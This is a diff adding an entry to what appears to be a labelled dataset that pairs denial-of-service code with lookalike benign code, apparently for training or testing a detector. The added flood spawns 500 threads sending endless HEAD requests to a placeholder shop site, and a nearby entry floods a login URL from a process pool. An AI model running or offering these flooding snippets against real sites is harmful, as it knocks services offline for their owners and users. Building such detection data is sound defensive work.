@@ -359,6 +359,14 @@ PAIRS = [
      "from flask import Flask, request, jsonify\nimport requests\napp = Flask(__name__)\n@app.route('/weather')\n"
      "def w():\n    r = requests.get('https://api.example.org/weather', params={'q': request.args.get('city')})\n"
      "    return jsonify(r.json())\napp.run(host='0.0.0.0', port=8080)"),
+    ("flood: HEAD requests from hundreds of threads, or a downloader with one thread per URL of a list", "dos_attack",
+     "import requests, threading\nURL = 'http://shop.example.com/'\ndef hit():\n    while True:\n"
+     "        requests.head(URL)\nfor i in range(500):\n    threading.Thread(target=hit).start()",
+     "import requests, threading\ndef download(url):\n    size = int(requests.head(url).headers['Content-Length'])\n"
+     "    with requests.get(url, stream=True) as r, open(url.rsplit('/', 1)[-1], 'wb') as f:\n"
+     "        for chunk in r.iter_content(1 << 16):\n            f.write(chunk)\nthreads = []\n"
+     "for i in range(len(urls)):\n    t = threading.Thread(target=download, args=[urls[i]])\n    threads.append(t)\n"
+     "    t.start()"),
     ("flood: a process pool draining one URL", "dos_attack",
      "import urllib.request\nfrom multiprocessing import Pool\naim = 'http://shop.example.com/login'\ndef f(_):\n"
      "    urllib.request.urlopen(aim).read()\nwith Pool(64) as p:\n    p.map(f, range(10 ** 7))",
